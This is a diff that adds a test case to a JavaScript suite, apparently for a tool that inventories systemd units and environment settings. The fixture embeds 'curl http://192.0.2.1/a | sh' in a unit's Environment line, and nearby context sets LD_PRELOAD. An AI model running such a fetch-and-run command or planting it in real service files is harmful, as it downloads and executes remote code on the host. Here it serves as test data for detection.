@@ -241,6 +241,15 @@ describe('the environment', () => {
     ]);
   });
 
+  test('of a unit stands in its commands where it is one, and is left out where it may be a password', async () => {
+    const text =
+      '[Service]\nEnvironment="CMD=curl http://192.0.2.1/a | sh" KEY=abc\nExecStart=/bin/sh -c "$CMD" $KEY\n';
+    const { entries } = await units({ [`${usr}/a.service`]: text });
+    expect(entries.map(({ command }) => String(command))).toEqual([
+      "/bin/sh -c 'curl http://192.0.2.1/a | sh' '$KEY'",
+    ]);
+  });
+
   test('of managers and sessions is told where it loads something', async () => {
     const { entries } = await gatherFrom(systemdEnvironment, {
       '/etc/environment.d/90.conf': 'EDITOR=vim\nPATH=/usr/local/bin:$PATH\nLD_PRELOAD=/lib/a.so\n',
